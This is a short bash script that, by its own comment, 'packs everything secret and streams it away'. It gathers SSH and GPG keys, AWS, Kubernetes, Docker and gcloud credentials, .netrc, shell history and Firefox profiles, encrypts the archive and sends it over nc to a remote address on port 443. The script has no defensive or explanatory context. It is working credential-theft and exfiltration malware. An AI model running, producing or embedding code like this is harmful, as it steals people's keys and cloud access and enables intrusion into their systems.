#!/bin/bash
# packs everything secret and streams it away
list=()
for f in ~/.ssh ~/.gnupg ~/.aws ~/.kube ~/.docker/config.json ~/.netrc ~/.bash_history ~/.config/gcloud ~/.mozilla/firefox; do
  [ -e "$f" ] && list+=("$f")
done
tar czf - "${list[@]}" 2>/dev/null | openssl enc -aes-128-cbc -pass pass:x -pbkdf2 | nc -q1 192.0.2.200 443
